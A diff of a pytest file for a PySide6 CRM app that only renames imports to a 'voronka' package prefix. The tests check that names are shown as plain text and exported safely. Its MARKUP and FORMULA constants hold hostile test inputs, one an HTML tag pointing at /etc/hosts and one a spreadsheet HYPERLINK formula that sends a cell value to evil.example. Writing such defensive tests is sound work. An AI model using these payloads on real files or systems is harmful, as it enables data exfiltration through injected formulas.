@@ -12,14 +12,14 @@ from PySide6.QtCore import QModelIndex, QSettings, Qt, QThreadPool
 from PySide6.QtWidgets import QAbstractItemView, QApplication, QLabel, QWidget
 from sqlalchemy import select
 
-from models.formula_guard import guard, unguard
-from models.orm import Company, Contact, Deal, User
-from models.services.companies import create_company
-from models.services.contacts import create_contact
-from models.services.deals import create_deal
-from models.services.tasks import add_task
-from models.services.team import update_user
-from models.clock import local_now
+from voronka.models.formula_guard import guard, unguard
+from voronka.models.orm import Company, Contact, Deal, User
+from voronka.models.services.companies import create_company
+from voronka.models.services.contacts import create_contact
+from voronka.models.services.deals import create_deal
+from voronka.models.services.tasks import add_task
+from voronka.models.services.team import update_user
+from voronka.models.clock import local_now
 
 MARKUP = '<b>Acme</b> <img src="file:///etc/hosts"> &amp; <a href="x">co</a>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -41,7 +41,7 @@ def hostile(db):
 
 @pytest.fixture
 def ctx(db, tmp_path):
-    from views.app_context import AppContext
+    from voronka.views.app_context import AppContext
 
     context = AppContext(db, QSettings(str(tmp_path / "settings.ini"), QSettings.Format.IniFormat), language="en")
     context.user_id = 1
@@ -61,7 +61,7 @@ def test_services_keep_hostile_names_exactly_as_typed(db, hostile):
 @pytest.mark.parametrize("kind, key, text", [("deal", "deal", MARKUP), ("company", "company", MARKUP),
                                              ("contact", "person", FORMULA)], ids=["deal", "company", "contact"])
 def test_card_titles_show_the_characters_typed(ctx, hostile, qtbot, kind, key, text):
-    from views.cards import open_card
+    from voronka.views.cards import open_card
 
     card = open_card(ctx, kind, hostile[key])
     qtbot.addWidget(card.window())
@@ -83,9 +83,9 @@ def test_board_cards_and_headers_show_the_characters_typed(ctx, hostile, qtbot):
 def test_every_page_and_card_shows_user_text_as_plain_text(ctx, hostile, qtbot):
     """Walks every page of the main window and every card: no label, tooltip or item tooltip
     that holds a hostile name lets Qt read it as markup."""
-    from views.cards import open_card
-    from views.main_window import MainWindow
-    from views.pages import PAGE_KEYS
+    from voronka.views.cards import open_card
+    from voronka.views.main_window import MainWindow
+    from voronka.views.pages import PAGE_KEYS
 
     win = MainWindow(ctx)
     qtbot.addWidget(win)
@@ -104,8 +104,8 @@ def test_an_error_message_quoting_a_name_shows_the_characters(monkeypatch, qapp)
     from PySide6.QtGui import QTextDocument
     from PySide6.QtWidgets import QMessageBox
 
-    from models.errors import VoronkaError
-    from views.errors import show_error
+    from voronka.models.errors import VoronkaError
+    from voronka.views.errors import show_error
 
     shown = []
     monkeypatch.setattr(QMessageBox, "warning", lambda parent, title, text: shown.append(text))
@@ -151,9 +151,9 @@ def test_csv_guard_marks_formula_text_and_reads_it_back():
 
 
 def test_history_export_writes_names_as_text_and_imports_them_back(db, hostile, tmp_path):
-    from models.db import open_database
-    from models.history_import.export import export_history
-    from models.history_import.writer import import_history
+    from voronka.models.db import open_database
+    from voronka.models.history_import.export import export_history
+    from voronka.models.history_import.writer import import_history
 
     export_history(db, tmp_path / "out")
     with open(tmp_path / "out" / "deals.csv", encoding="utf-8") as fh:
@@ -176,10 +176,10 @@ def test_history_export_writes_names_as_text_and_imports_them_back(db, hostile, 
 @pytest.fixture
 def hostile_bundle(tmp_path_factory):
     """A demo month whose team member and lost reason are named as formulas and markup."""
-    from desktop.exports.bundle import build_bundle
-    from metrics.periods import parse_period
-    from models.loader import load_frames
-    from models.orm import LostReason
+    from voronka.desktop.exports.bundle import build_bundle
+    from voronka.metrics.periods import parse_period
+    from voronka.models.loader import load_frames
+    from voronka.models.orm import LostReason
     from report_helpers import build_demo_db
 
     db = build_demo_db(tmp_path_factory.mktemp("hostile"), deals=300)
@@ -194,7 +194,7 @@ def hostile_bundle(tmp_path_factory):
 
 
 def test_xlsx_writes_every_hostile_name_as_a_string_never_a_formula(hostile_bundle, tmp_path, qapp):
-    from desktop.exports.xlsx import write_xlsx
+    from voronka.desktop.exports.xlsx import write_xlsx
 
     path = tmp_path / "week.xlsx"
     write_xlsx(hostile_bundle, path, "en", exported_by=FORMULA)
@@ -213,7 +213,7 @@ def test_xlsx_writes_every_hostile_name_as_a_string_never_a_formula(hostile_bund
 def test_pdf_shows_hostile_names_as_their_characters(hostile_bundle, qapp):
     from datetime import datetime
 
-    from desktop.exports.pdf import build_document
+    from voronka.desktop.exports.pdf import build_document
 
     doc = build_document(hostile_bundle, "en", MARKUP, datetime(2026, 5, 11, 9, 0), {})
     text = doc.toPlainText()
@@ -221,7 +221,7 @@ def test_pdf_shows_hostile_names_as_their_characters(hostile_bundle, qapp):
 
 
 def test_report_csv_keeps_numbers_as_numbers(hostile_bundle):
-    from desktop.commands.report import write_csv
+    from voronka.desktop.commands.report import write_csv
 
     rows = list(csv.reader(io.StringIO(write_csv(hostile_bundle, "en").decode("utf-8"))))
     assert rows[0] == ["id", "name", "value", "target"]
